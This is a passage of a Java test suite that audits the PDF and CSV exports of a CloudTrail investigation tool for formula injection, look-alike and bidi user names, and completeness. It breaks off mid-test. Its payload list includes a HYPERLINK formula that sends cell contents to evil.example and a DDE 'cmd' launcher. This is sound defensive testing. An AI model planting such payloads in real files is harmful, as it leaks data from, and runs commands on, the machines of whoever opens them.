package io.github.trailbench.report;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import io.github.trailbench.cli.CliRun;
import io.github.trailbench.core.findings.Evidence;
import io.github.trailbench.core.findings.Finding;
import io.github.trailbench.core.findings.FindingStatus;
import io.github.trailbench.core.findings.Severity;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Consumer;
import java.util.stream.Collectors;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.pdfbox.text.TextPosition;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Audit of what leaves Trailbench as PDF and CSV: spreadsheet (formula) injection, deceptive
 * names (zero-width, bidi, homoglyphs, line breaks, very long values), completeness against the
 * CLI's own listings, and the PDF layout. Cases are built from small hand-made CloudTrail
 * records, imported and exported through the real commands, in process.
 *
 * <p>Tests that fail on the code as audited are the confirmed problems; the others are kept as
 * regression tests.
 */
class ExportAuditTest {
  static final ObjectMapper JSON = new ObjectMapper();
  static final String ACCOUNT = "111122223333";

  @TempDir Path tmp;

  // ------------------------------------------------------------------ harness

  static CliRun run(String... args) {
    return CliRun.of(args);
  }

  static CliRun ok(String... args) {
    CliRun r = run(args);
    assertThat(r.exit()).as(String.join(" ", args) + "\n" + r.out() + r.err()).isZero();
    return r;
  }

  /** A CloudTrail record by an IAM user; {@code edit} changes whatever the case needs. */
  static ObjectNode record(int i, String userName, String eventSource, String eventName, Consumer<ObjectNode> edit) {
    ObjectNode r = JSON.createObjectNode();
    r.put("eventVersion", "1.09");
    ObjectNode id = r.putObject("userIdentity");
    id.put("type", "IAMUser");
    id.put("principalId", String.format("AIDAEXAMPLE%09d", i));
    id.put("arn", "arn:aws:iam::" + ACCOUNT + ":user/" + userName);
    id.put("accountId", ACCOUNT);
    id.put("accessKeyId", String.format("AKIAEXAMPLE%09d", i));
    id.put("userName", userName);
    r.put("eventTime", Instant.parse("2026-10-03T10:00:00Z").plusSeconds(i * 7L).toString());
    r.put("eventSource", eventSource);
    r.put("eventName", eventName);
    r.put("awsRegion", "us-east-1");
    r.put("sourceIPAddress", "203.0.113.7");
    r.put("userAgent", "aws-cli/2.15.30");
    r.putObject("requestParameters").put("name", "main-trail");
    r.putNull("responseElements");
    r.put("requestID", "req-" + i);
    r.put("eventID", String.format("00000000-0000-0000-0000-%012d", i));
    r.put("readOnly", false);
    r.put("eventType", "AwsApiCall");
    r.put("managementEvent", true);
    r.put("recipientAccountId", ACCOUNT);
    if (edit != null) {
      edit.accept(r);
    }
    return r;
  }

  static ObjectNode stopLogging(int i, String userName) {
    return record(i, userName, "cloudtrail.amazonaws.com", "StopLogging", null);
  }

  /** Imports the records into a new case and returns the case directory. */
  Path importCase(String name, List<ObjectNode> records) throws IOException {
    ArrayNode arr = JSON.createArrayNode();
    records.forEach(arr::add);
    ObjectNode root = JSON.createObjectNode();
    root.set("Records", arr);
    Path file = tmp.resolve(name + ".json");
    Files.writeString(file, JSON.writeValueAsString(root));
    Path caseDir = tmp.resolve(name);
    ok("import", "--case", caseDir.toString(), file.toString());
    return caseDir;
  }

  static List<List<String>> parseCsv(String csv, char separator) throws IOException {
    CsvMapper mapper = new CsvMapper();
    mapper.enable(CsvParser.Feature.WRAP_AS_ARRAY);
    List<List<String>> rows = new ArrayList<>();
    CsvSchema schema = CsvSchema.emptySchema().withColumnSeparator(separator);
    try (MappingIterator<String[]> it = mapper.readerFor(String[].class).with(schema).readValues(csv)) {
      while (it.hasNext()) {
        rows.add(Arrays.asList(it.next()));
      }
    }
    return rows;
  }

  static List<List<String>> parseCsv(String csv) throws IOException {
    return parseCsv(csv, ',');
  }

  /**
   * Whether a spreadsheet would take the cell for a formula, written independently of the
   * product: OWASP's list {@code = + - @}, tab and CR as first character, or {@code = + - @}
   * after leading spaces, tabs and line breaks ("Trim spaces" import). A cell starting with the
   * neutralising {@code '} is text; a plain decimal number is a number, not a formula.
   */
  static boolean spreadsheetWouldEvaluate(String cell) {
    if (cell == null || cell.isEmpty() || cell.charAt(0) == '\'') {
      return false;
    }
    if (cell.matches("[-+]?[0-9]+(\\.[0-9]+)?")) {
      return false;
    }
    char c = cell.charAt(0);
    if (c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r') {
      return true;
    }
    String t = cell.replaceFirst("^[ \\t\\r\\n]+", "");
    return !t.isEmpty() && t.length() < cell.length() && "=+-@".indexOf(t.charAt(0)) >= 0;
  }

  static List<String> evaluatingCells(List<List<String>> rows) {
    List<String> bad = new ArrayList<>();
    for (int r = 0; r < rows.size(); r++) {
      for (int c = 0; c < rows.get(r).size(); c++) {
        if (spreadsheetWouldEvaluate(rows.get(r).get(c))) {
          bad.add("row " + r + " col " + c + ": " + rows.get(r).get(c));
        }
      }
    }
    return bad;
  }

  static String pdfText(Path pdf) throws IOException {
    try (PDDocument doc = Loader.loadPDF(pdf.toFile())) {
      return new PDFTextStripper().getText(doc);
    }
  }

  static String pdfText(byte[] pdf, int page) throws IOException {
    try (PDDocument doc = Loader.loadPDF(pdf)) {
      PDFTextStripper t = new PDFTextStripper();
      t.setStartPage(page);
      t.setEndPage(page);
      return t.getText(doc);
    }
  }

  static String squash(String s) {
    return s.replaceAll("\\s+", "");
  }

  /** Every glyph drawn, with its page, for layout checks. */
  record Glyph(int page, String text, float x, float y, float w, float h, PDRectangle media) {}

  static List<Glyph> glyphs(byte[] pdf) throws IOException {
    List<Glyph> out = new ArrayList<>();
    try (PDDocument doc = Loader.loadPDF(pdf)) {
      PDFTextStripper s = new PDFTextStripper() {
        @Override
        protected void writeString(String text, List<TextPosition> positions) throws IOException {
          int page = getCurrentPageNo();
          PDRectangle media = getCurrentPage().getMediaBox();
          for (TextPosition p : positions) {
            out.add(new Glyph(page, p.getUnicode(), p.getXDirAdj(), p.getYDirAdj(), p.getWidthDirAdj(), p.getHeightDir(), media));
          }
        }
      };
      s.setSortByPosition(true);
      s.getText(doc);
    }
    return out;
  }

  /** Glyphs drawn (partly) outside their page's media box. */
  static List<Glyph> outsidePage(List<Glyph> glyphs) {
    return glyphs.stream().filter(g -> !g.text().isBlank())
        .filter(g -> g.x() < 0 || g.x() + g.w() > g.media().getWidth() + 0.5f || g.y() - g.h() < 0
            || g.y() > g.media().getHeight())
        .toList();
  }

  /** Pairs of glyphs on one page whose boxes overlap (text drawn over other text). */
  static List<String> overlapping(List<Glyph> glyphs) {
    List<String> out = new ArrayList<>();
    Map<Integer, List<Glyph>> byPage = glyphs.stream().filter(g -> !g.text().isBlank())
        .collect(Collectors.groupingBy(Glyph::page));
    for (List<Glyph> page : byPage.values()) {
      List<Glyph> sorted = new ArrayList<>(page);
      sorted.sort((a, b) -> Float.compare(a.x(), b.x()));
      for (int i = 0; i < sorted.size() && out.size() < 20; i++) {
        Glyph a = sorted.get(i);
        for (int j = i + 1; j < sorted.size() && sorted.get(j).x() < a.x() + a.w() - 0.8f; j++) {
          Glyph b = sorted.get(j);
          float dy = Math.min(a.y(), b.y()) - Math.max(a.y() - a.h(), b.y() - b.h());
          if (dy > 1.0f && Math.abs(a.y() - b.y()) < Math.min(a.h(), b.h())) {
            out.add("page " + a.page() + ": '" + a.text() + "'@" + a.x() + "," + a.y() + " / '" + b.text() + "'@" + b.x()
                + "," + b.y());
          }
        }
      }
    }
    return out;
  }

  /** What a reader sees as the same letter: UTS #39-style skeleton for the few confusables used here. */
  static String skeleton(String s) {
    StringBuilder b = new StringBuilder();
    s.codePoints().forEach(cp -> b.appendCodePoint(switch (cp) {
      case 0x0430 -> 'a'; // CYRILLIC SMALL LETTER A
      case 0x0435 -> 'e'; // CYRILLIC SMALL LETTER IE
      case 0x043E -> 'o'; // CYRILLIC SMALL LETTER O
      case 0x0440 -> 'p'; // CYRILLIC SMALL LETTER ER
      case 0x0456 -> 'i'; // CYRILLIC SMALL LETTER BYELORUSSIAN-UKRAINIAN I
      default -> cp;
    }));
    return b.toString();
  }

  // ------------------------------------------------------------------ 1. CSV injection

  /** Attacker-controlled cell starts: OWASP's list, after spaces, quotes, commas, line breaks. */
  static final List<String> PAYLOADS = List.of(
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
      "=cmd|' /C calc'!A0",
      "+1+1",
      "-1+1",
      "@SUM(1+1)",
      "\t=1+1",
      "\r=1+1",
      "  =1+1",
      " \t@x",
      "\n-2+3",
      "\r\n+x",
      "quote \" comma , and\nline",
      "\"=1+1\"");

  /** Puts {@code value} in one text field of a record. */
  static final Map<String, java.util.function.BiConsumer<ObjectNode, String>> FIELDS = new LinkedHashMap<>();

  static {
    FIELDS.put("userAgent", (r, v) -> r.put("userAgent", v));
    FIELDS.put("userIdentity.arn", (r, v) -> ((ObjectNode) r.get("userIdentity")).put("arn", v));
    FIELDS.put("userName", (r, v) -> {
      ((ObjectNode) r.get("userIdentity")).put("userName", v);
      ((ObjectNode) r.get("userIdentity")).remove("arn");
    });
    FIELDS.put("roleSessionName", (r, v) -> {
      ObjectNode id = (ObjectNode) r.get("userIdentity");
      id.put("type", "AssumedRole");
      id.put("arn", "arn:aws:sts::" + ACCOUNT + ":assumed-role/Ops/" + v);
      id.put("accessKeyId", "ASIAEXAMPLE000000001");
      id.remove("userName");
      ObjectNode issuer = id.putObject("sessionContext").putObject("sessionIssuer");
      issuer.put("type", "Role");
      issuer.put("arn", "arn:aws:iam::" + ACCOUNT + ":role/Ops");
      issuer.put("userName", "Ops");
    });
    FIELDS.put("errorCode", (r, v) -> r.put("errorCode", v));
    FIELDS.put("errorMessage", (r, v) -> {
      r.put("errorCode", "AccessDenied");
      r.put("errorMessage", v);
    });
    FIELDS.put("eventName", (r, v) -> r.put("eventName", v));
    FIELDS.put("eventSource", (r, v) -> r.put("eventSource", v));
    FIELDS.put("awsRegion", (r, v) -> r.put("awsRegion", v));
    FIELDS.put("sourceIPAddress", (r, v) -> r.put("sourceIPAddress", v));
    FIELDS.put("accessKeyId", (r, v) -> ((ObjectNode) r.get("userIdentity")).put("accessKeyId", v));
    FIELDS.put("eventID", (r, v) -> r.put("eventID", v + r.get("eventID").asText()));
    FIELDS.put("bucketName", (r, v) -> {
      r.put("eventSource", "s3.amazonaws.com");
      r.put("eventName", "GetObject");
      ObjectNode p = r.putObject("requestParameters");
      p.put("bucketName", v);
      p.put("key", "k");
    });
    FIELDS.put("objectKey", (r, v) -> {
      r.put("eventSource", "s3.amazonaws.com");
      r.put("eventName", "GetObject");
      ObjectNode p = r.putObject("requestParameters");
      p.put("bucketName", "b");
      p.put("key", v);
    });
    FIELDS.put("resources.ARN", (r, v) -> r.putArray("resources").addObject().put("ARN", v).put("type", "AWS::IAM::User"));
  }

  /** One StopLogging record per field and payload: every text field carries every payload once. */
  Path hostileCase() throws IOException {
    List<ObjectNode> records = new ArrayList<>();
    int i = 1;
    for (var field : FIELDS.entrySet()) {
      for (String p : PAYLOADS) {
        ObjectNode r = stopLogging(i++, "u" + (i % 4));
        field.getValue().accept(r, p);
        records.add(r);
      }
    }
    return importCase("hostile", records);
  }

  @Test
  void eventsCsvParsesBackAndNeutralisesEveryFormulaInEveryField() throws Exception {
    Path c = hostileCase();
    String csv = ok("events", "--case", c.toString(), "--format", "csv").out();
    List<List<String>> rows = parseCsv(csv);
    List<JsonNode> json = new ArrayList<>();
    for (String line : ok("events", "--case", c.toString(), "--format", "json").out().split("\n")) {
      json.add(JSON.readTree(line));
    }
    assertThat(json).hasSizeGreaterThan(FIELDS.size() * PAYLOADS.size() / 2);
    assertThat(rows).hasSize(json.size() + 1);
    assertThat(rows).allSatisfy(r -> assertThat(r).hasSize(EventExport.CSV_COLUMNS.size()));
    assertThat(evaluatingCells(rows)).isEmpty();
    // every value survives: the CSV cell, minus the neutralising quotes, is the JSON value
    for (int i = 0; i < json.size(); i++) {
      List<String> row = rows.get(i + 1);
      JsonNode j = json.get(i);
      for (String f : List.of("eventId", "eventSource", "eventName", "awsRegion", "principalArn", "accessKeyId",
          "sourceIp", "userAgent", "errorCode")) {
        String cell = row.get(EventExport.CSV_COLUMNS.indexOf(f.equals("principalArn") ? "principalArn" : f));
        String value = j.get(f).isNull() ? "" : j.get(f).asText();
        String back = cell.startsWith("'") && CsvWriter.isFormula(value) ? cell.substring(1) : cell;
        // and the quote after a ';' or tab that a formula character follows
        back = back.replaceAll("([;\t] *)'([=+@-])", "$1$2");
        assertThat(back).as(f + " of " + j.get("eventId")).isEqualTo(value);
      }
    }
  }

  @Test
  void findingsCsvAndReportCsvParseBackAndNeutraliseEveryFormula() throws Exception {
    Path c = hostileCase();
    String findingsCsv = ok("findings", "--case", c.toString(), "--format", "csv").out();
    Path out = tmp.resolve("report.csv");
    ok("report", "--case", c.toString(), "--out", out.toString());
    String reportCsv = Files.readString(out, StandardCharsets.UTF_8);
    int findings = JSON.readTree("[" + String.join(",", ok("findings", "--case", c.toString(), "--format", "json")
        .out().strip().split("\n")) + "]").size();
    assertThat(findings).isGreaterThan(3);
    for (String csv : List.of(findingsCsv, reportCsv)) {
      List<List<String>> rows = parseCsv(csv);
      assertThat(rows).hasSize(findings + 1);
      assertThat(rows).allSatisfy(r -> assertThat(r).hasSize(CsvExport.FINDING_COLUMNS.size()));
      assertThat(evaluatingCells(rows)).isEmpty();
    }
  }

  /**
   * Excel opens a double-clicked .csv with the system list separator, which is ';' in much of
   * Europe. A cell holding {@code x;=cmd|…} is written bare (no comma, quote or line break, so
   * no quotes) and unprefixed (it starts with 'x'), and such a spreadsheet splits it into a
   * second cell that starts with '='.
   */
  @Test
  void csvCellsStaySafeWhenASpreadsheetSplitsOnSemicolons() throws Exception {
    Path c = importCase("semicolon", List.of(
        record(1, "svc;=cmd|' /C calc'!A0", "cloudtrail.amazonaws.com", "StopLogging",
            r -> r.put("userAgent", "Mozilla/5.0;=HYPERLINK(\"http://evil.example\")&\"\";@SUM(1)"))));
    String events = ok("events", "--case", c.toString(), "--format", "csv").out();
    String findings = ok("findings", "--case", c.toString(), "--format", "csv").out();
    List<String> bad = new ArrayList<>();
    bad.addAll(evaluatingCells(parseCsv(events, ';')).stream().map(s -> "events --format csv: " + s).toList());
    bad.addAll(evaluatingCells(parseCsv(findings, ';')).stream().map(s -> "findings --format csv: " + s).toList());
    assertThat(bad).as("cells a ';'-separated spreadsheet would evaluate").isEmpty();
  }

  @Test
  void negativeNumbersAndIsoTimesAreLeftAsTheyAre() throws Exception {
    Path c = importCase("numbers", List.of(
        record(1, "n1", "cloudtrail.amazonaws.com", "StopLogging", r -> r.put("userAgent", "-5")),
        record(2, "n2", "cloudtrail.amazonaws.com", "StopLogging", r -> r.put("userAgent", "-1.25")),
        record(3, "n3", "cloudtrail.amazonaws.com", "StopLogging", r -> r.put("userAgent", "+42")),
        record(4, "n4", "cloudtrail.amazonaws.com", "StopLogging", r -> r.put("userAgent", "2026-10-03T10:00:00Z"))));
    List<List<String>> rows = parseCsv(ok("events", "--case", c.toString(), "--format", "csv").out());
    int ua = EventExport.CSV_COLUMNS.indexOf("userAgent");
    int time = EventExport.CSV_COLUMNS.indexOf("eventTime");
    assertThat(rows.stream().skip(1).map(r -> r.get(ua))).containsExactly("-5", "-1.25", "+42", "2026-10-03T10:00:00Z");
    assertThat(rows.stream().skip(1).map(r -> r.get(time)))
        .allSatisfy(t -> assertThat(t).matches("2026-10-03T10:00:\\d\\dZ"));
    List<List<String>> f = parseCsv(ok("findings", "--case", c.toString(), "--format", "csv").out());
    int first = CsvExport.FINDING_COLUMNS.indexOf("firstEvent");
    assertThat(f.stream().skip(1).map(r -> r.get(first))).allSatisfy(t -> assertThat(t).matches("2026-10-03T10:00:\\d\\dZ"));
  }

  /**
   * The events CSV joins a multi-valued cell with spaces, so a resource whose name has a space (an
   * S3 key "Q1 final.pdf") reads as two resources; the JSON form of the same export has one.
   */
  @Test
  void eventsCsvResourceListSaysTheSameAsTheJsonWhenANameHasASpace() throws Exception {
    Path c = importCase("spaces", List.of(record(1, "reader", "s3.amazonaws.com", "GetObject", r -> {
      ObjectNode p = r.putObject("requestParameters");
      p.put("bucketName", "finance");
      p.put("key", "reports/Q1 final.pdf");
    })));
    JsonNode j = JSON.readTree(ok("events", "--case", c.toString(), "--format", "json").out().strip());
    List<String> jsonResources = new ArrayList<>();
    j.get("resources").forEach(n -> jsonResources.add(n.asText()));
    List<List<String>> rows = parseCsv(ok("events", "--case", c.toString(), "--format", "csv").out());
    String cell = rows.get(1).get(EventExport.CSV_COLUMNS.indexOf("resources"));
    List<String> csvResources = cell.isEmpty() ? List.of() : List.of(cell.split("\n"));
    assertThat(jsonResources).containsExactly("arn:aws:s3:::finance/reports/Q1 final.pdf");
    assertThat(csvResources).as("resources cell \"%s\" read back with the documented separator (a line break)", cell)
        .isEqualTo(jsonResources);
  }

  // ------------------------------------------------------------------ 2. deceptive names

  static final String ZWSP = "adm\u200Bin";
  static final String ZWJ = "ad\u200Dmin";
  static final String BOM = "\uFEFFadmin";
  static final String RLO = "ev\u202Eil-txt.exe";
  static final String CYRILLIC = "\u0430dmin";

  Path lookAlikeCase() throws IOException {
    return importCase("lookalike", List.of(stopLogging(1, "admin"), stopLogging(2, ZWSP), stopLogging(3, ZWJ),
        stopLogging(4, BOM), stopLogging(5, RLO), stopLogging(6, CYRILLIC)));
  }

  @Test
  void pdfShowsZeroWidthAndBidiCharactersOfNamesAsVisibleMarks() throws Exception {
    Path c = lookAlikeCase();
    Path pdf = tmp.resolve("lookalike.pdf");
    ok("report", "--case", c.toString(), "--out", pdf.toString());
    String text = pdfText(pdf);
    assertThat(text).contains("user/adm<U+200B>in", "user/ad<U+200D>min", "user/<U+FEFF>admin", "user/ev<U+202E>il-txt.exe");
    // the override does not reorder what follows it on the line: the summary reads on in logical order
    assertThat(squash(text)).contains(squash("user/ev<U+202E>il-txt.exe called StopLogging on CloudTrail"));
    // a principal with a zero-width character is its own finding, not merged with "admin"
    String json = ok("findings", "--case", c.toString(), "--format", "json").out();
    assertThat(json.lines().filter(l -> l.contains("cloudtrail-logging-stopped"))).hasSize(6);
  }

  @Test
  void csvKeepsZeroWidthBidiAndHomoglyphNamesExactlyAndDistinct() throws Exception {
    Path c = lookAlikeCase();
    List<List<String>> rows = parseCsv(ok("findings", "--case", c.toString(), "--format", "csv").out());
    int col = CsvExport.FINDING_COLUMNS.indexOf("principals");
    Set<String> principals = rows.stream().skip(1).map(r -> r.get(col)).collect(Collectors.toSet());
    String prefix = "arn:aws:iam::" + ACCOUNT + ":user/";
    assertThat(principals).containsExactlyInAnyOrder(prefix + "admin", prefix + ZWSP, prefix + ZWJ, prefix + BOM,
        prefix + RLO, prefix + CYRILLIC);
    List<List<String>> events = parseCsv(ok("events", "--case", c.toString(), "--format", "csv").out());
    int p = EventExport.CSV_COLUMNS.indexOf("principalArn");
    assertThat(events.stream().skip(1).map(r -> r.get(p)).collect(Collectors.toSet())).isEqualTo(principals);
  }

  /**
   * "аdmin" with a Cyrillic 'а' (U+0430) and "admin" are drawn with identical glyphs and nothing
   * in the PDF tells them apart (UTS #39 mixed-script confusables), so the report shows two
   * findings by what looks like the same user.
   */
  @Test
  void pdfTellsAHomoglyphPrincipalApartFromTheNameItImitates() throws Exception {
    Path c = lookAlikeCase();
    Path pdf = tmp.resolve("lookalike.pdf");
    ok("report", "--case", c.toString(), "--out", pdf.toString());
    List<String> principalLines = pdfText(pdf).lines().map(String::strip)
        .filter(l -> l.startsWith("• arn:aws:iam::" + ACCOUNT + ":user/")).toList();
    String latin = "• arn:aws:iam::" + ACCOUNT + ":user/admin";
    // IAM names are ASCII only: the look-alike letter is shown as its code point
    String cyrillic = "• arn:aws:iam::" + ACCOUNT + ":user/<U+0430>dmin";
    assertThat(principalLines).contains(latin, cyrillic);
    // what the reader sees: the skeleton of each shown line; the look-alike must not read the same
    assertThat(skeleton(cyrillic)).as("the Cyrillic principal as a reader sees it in the PDF")
        .isNotEqualTo(skeleton(latin));
  }

  /**
   * A line break inside a logged value (here a user name) is drawn as a line break, exactly
   * like the break between two values: the user name "bob\narn:aws:iam::111122223333:root"
   * makes the summary read "arn:aws:iam::111122223333:root called StopLogging on CloudTrail…"
   * on a line of its own, and the principal lists show a second, root, principal. The case has
   * no root activity. The CLI prints the same name on one line as "bob\n…".
   */
  @Test
  void pdfDoesNotLetALineBreakInANameForgeAnotherPrincipal() throws Exception {
    String root = "arn:aws:iam::" + ACCOUNT + ":root";
    Path c = importCase("newline", List.of(stopLogging(1, "bob\n" + root)));
    Path pdf = tmp.resolve("newline.pdf");
    ok("report", "--case", c.toString(), "--out", pdf.toString());
    assertThat(ok("findings", "--case", c.toString()).out()).contains("user/bob\\n" + root);
    List<String> forged = pdfText(pdf).lines().map(String::strip).filter(l -> l.startsWith(root)).toList();
    assertThat(forged).as("PDF lines that start with the root ARN (the case has no root activity)").isEmpty();
  }

  /**
   * Page 1 ("What happened", "Principals:") shortens every principal to what follows the last
   * ':' of its ARN and keeps distinct short forms only, so user/admin of account 111122223333
   * and user/admin of account 444455556666 become one "user/admin" (and a name holding ':' is
   * cut to its tail).
   */
  @Test
  void pdfCoverKeepsPrincipalsOfDifferentAccountsApart() throws Exception {
    Path c = importCase("accounts", List.of(stopLogging(1, "admin"), record(2, "admin", "cloudtrail.amazonaws.com",
        "StopLogging", r -> {
          ObjectNode id = (ObjectNode) r.get("userIdentity");
          id.put("arn", "arn:aws:iam::444455556666:user/admin");
          id.put("accountId", "444455556666");
          r.put("recipientAccountId", "444455556666");
        })));
    String json = ok("findings", "--case", c.toString(), "--format", "json").out();
    assertThat(json).contains("arn:aws:iam::111122223333:user/admin", "arn:aws:iam::444455556666:user/admin");
    Path pdf = tmp.resolve("accounts.pdf");
    ok("report", "--case", c.toString(), "--out", pdf.toString());
    String page1 = pdfText(Files.readAllBytes(pdf), 1);
    String principals = page1.lines().filter(l -> l.startsWith("Principals:")).findFirst().orElseThrow();
    List<String> shown = List.of(principals.substring("Principals:".length()).strip().split(",\\s*"));
    assertThat(shown).as("page 1 \"%s\"", principals).hasSize(2).doesNotHaveDuplicates();
  }

  @Test
  void veryLongArnIsShownWholeInThePdfAndCsv() throws Exception {
    String name = "u" + "x".repeat(2048 - ("arn:aws:iam::" + ACCOUNT + ":user/u").length());
    String arn = "arn:aws:iam::" + ACCOUNT + ":user/" + name;
    assertThat(arn).hasSize(2048);
    Path c = importCase("long", List.of(stopLogging(1, name)));
    Path pdf = tmp.resolve("long.pdf");
    ok("report", "--case", c.toString(), "--out", pdf.toString());
    byte[] bytes = Files.readAllBytes(pdf);
    // Wrapped copies run on over page breaks and table rows, where extraction interleaves footers and
    // other cells, so count the name's letters instead: each place shows all of them or the count is off.
    String text = pdfText(pdf);
    long xs = name.chars().filter(ch -> ch == 'x').count();
    java.util.regex.Matcher m = java.util.regex.Pattern.compile("x{10,}").matcher(text);
    long shown = 0;
    while (m.find()) {
      shown += m.group().length();
    }
    assertThat(text).doesNotContain("x…").doesNotContain("x...");
    assertThat(shown % xs).as("letters of a cut copy of the name").isZero();
    // story line, page 1 principals, overview, summary, principal list, events table
    assertThat(shown / xs).as("whole copies of the 2,048-character ARN's name in the PDF").isGreaterThanOrEqualTo(6);
    assertThat(outsidePage(glyphs(bytes))).isEmpty();
    List<List<String>> rows = parseCsv(ok("findings", "--case", c.toString(), "--format", "csv").out());
    assertThat(rows.get(1).get(CsvExport.FINDING_COLUMNS.indexOf("principals"))).isEqualTo(arn);
  }

  /**
   * Out of the exports' scope but found on the way: the CLI tables escape bidi controls but
   * print zero-width characters raw, so "adm\u200Bin" prints exactly like "admin".
   */
  @Test
  void cliFindingsTableShowsZeroWidthCharactersInNames() throws Exception {
    Path c = importCase("zw-cli", List.of(stopLogging(1, "admin"), stopLogging(2, ZWSP)));
    String table = ok("findings", "--case", c.toString()).out();
    assertThat(table).as("a zero-width space printed as it is").doesNotContain("\u200B");
  }

  // ------------------------------------------------------------------ 3. completeness

  /** A small case: a successful and a denied StopLogging, and root activity. */
  Path smallCase() throws IOException {
    return importCase("small", List.of(
        stopLogging(1, "alice"),
        record(2, "mallory", "cloudtrail.amazonaws.com", "StopLogging", r -> {
          r.put("errorCode", "AccessDenied");
          r.put("errorMessage", "User: arn:aws:iam::111122223333:user/mallory is not authorized to perform: cloudtrail:StopLogging");
        }),
        record(3, "root", "iam.amazonaws.com", "ListUsers", r -> {
          ObjectNode id = (ObjectNode) r.get("userIdentity");
          id.put("type", "Root");
          id.put("arn", "arn:aws:iam::" + ACCOUNT + ":root");
          id.put("principalId", ACCOUNT);
          id.remove("userName");
        })));
  }

  @Test
  void pdfAndCsvSayWhatTheCliSaysAboutEachFinding() throws Exception {
    Path c = smallCase();
    List<JsonNode> cli = new ArrayList<>();
    for (String l : ok("findings", "--case", c.toString(), "--format", "json").out().strip().split("\n")) {
      cli.add(JSON.readTree(l));
    }
    assertThat(cli).hasSizeGreaterThanOrEqualTo(3);
    Path csvFile = tmp.resolve("small.csv");
    Path pdfFile = tmp.resolve("small.pdf");
    ok("report", "--case", c.toString(), "--out", csvFile.toString());
    ok("report", "--case", c.toString(), "--out", pdfFile.toString());
    List<List<String>> csv = parseCsv(Files.readString(csvFile));
    String pdf = pdfText(pdfFile);
    String flat = squash(pdf);
    assertThat(csv).hasSize(cli.size() + 1);
    List<String> h = csv.get(0);
    for (JsonNode f : cli) {
      List<String> row = csv.stream().filter(r -> r.get(0).equals(f.get("id").asText())).findFirst().orElseThrow();
      assertThat(row.get(h.indexOf("severity"))).isEqualTo(f.get("severity").asText());
      assertThat(row.get(h.indexOf("title"))).isEqualTo(f.get("title").asText());
      assertThat(row.get(h.indexOf("summary"))).isEqualTo(f.get("summary").asText());
      assertThat(row.get(h.indexOf("eventCount"))).isEqualTo(f.get("eventCount").asText());
      List<String> ids = new ArrayList<>();
      f.get("eventIds").forEach(n -> ids.add(n.asText()));
      assertThat(row.get(h.indexOf("eventIds"))).isEqualTo(String.join("; ", ids));
      assertThat(row.get(h.indexOf("firstEvent"))).isEqualTo(f.get("firstEvent").asText());
      // the PDF: id, title with the severity, the summary (attempted / succeeded wording), every event id, UTC times
      assertThat(pdf).contains(f.get("id").asText());
      assertThat(pdf).contains("[" + f.get("severity").asText().toUpperCase() + "] " + f.get("title").asText());
      assertThat(flat).contains(squash(f.get("summary").asText()));
      ids.forEach(id -> assertThat(flat).contains(squash(id)));
      String first = PdfReport.time(Instant.parse(f.get("firstEvent").asText()));
      assertThat(pdf).contains(f.get("eventCount").asText() + " (" + first + " to ");
    }
    assertThat(pdf).contains("Blocked:").contains("attempted").contains("Times are UTC");
    // the events: the CLI table, the CSV and the JSON list the same ids at the same (UTC) times
    String table = ok("events", "--case", c.toString()).out();
    List<List<String>> ev = parseCsv(ok("events", "--case", c.toString(), "--format", "csv").out());
    assertThat(ev).hasSize(4);
    for (List<String> r : ev.subList(1, ev.size())) {
      assertThat(table).contains(r.get(0) + "  " + r.get(1));
    }
  }

  /** 600 root calls: the evidence keeps 500 of them (DetectionOptions.DEFAULT_MAX_EVENTS_PER_FINDING). */
  Path manyEventsCase() throws IOException {
    List<ObjectNode> records = new ArrayList<>();
    for (int i = 1; i <= 600; i++) {
      records.add(record(i, "root", "iam.amazonaws.com", "ListUsers", r -> {
        ObjectNode id = (ObjectNode) r.get("userIdentity");
        id.put("type", "Root");
        id.put("arn", "arn:aws:iam::" + ACCOUNT + ":root");
        id.put("principalId", ACCOUNT);
        id.remove("userName");
      }));
    }
    return importCase("many", records);
  }

  /**
   * The findings table prints "events: N" from the kept evidence, the JSON, CSV and PDF the
   * number of matching events: for 600 root calls the table says 500.
   */
  @Test
  void cliFindingsTableCountsTheSameEventsAsThePdfAndCsv() throws Exception {
    Path c = manyEventsCase();
    JsonNode f = JSON.readTree(ok("findings", "--case", c.toString(), "--format", "json").out().strip());
    assertThat(f.get("eventCount").asLong()).isEqualTo(600);
    Path pdf = tmp.resolve("many.pdf");
    ok("report", "--case", c.toString(), "--out", pdf.toString());
    assertThat(pdfText(pdf)).contains("Events 600 (").contains("500 of 600");
    List<List<String>> csv = parseCsv(ok("findings", "--case", c.toString(), "--format", "csv").out());
    assertThat(csv.get(1).get(CsvExport.FINDING_COLUMNS.indexOf("eventCount"))).isEqualTo("600");
    String table = ok("findings", "--case", c.toString()).out();
    assertThat(table).as("findings table").contains("events: 600 (500 kept as evidence);");
  }

  /**
   * More than 20 events are grouped in the PDF by resource prefix ("every row is in the CSV
   * export"), which drops the object keys; but the CSV that `report` and the app write is one
   * row per finding without them, and no command writes the evidence CSV
   * (CsvExport.writeEvidence is not called outside tests).
   */
  @Test
  void objectKeysTheGroupedPdfLeavesOutAreInTheCsvExport() throws Exception {
    List<ObjectNode> records = new ArrayList<>();
    for (int i = 1; i <= 30; i++) {
      int n = i;
      records.add(record(i, "root", "s3.amazonaws.com", "GetObject", r -> {
        ObjectNode id = (ObjectNode) r.get("userIdentity");
        id.put("type", "Root");
        id.put("arn", "arn:aws:iam::" + ACCOUNT + ":root");
        id.put("principalId", ACCOUNT);
        id.remove("userName");
        ObjectNode p = r.putObject("requestParameters");
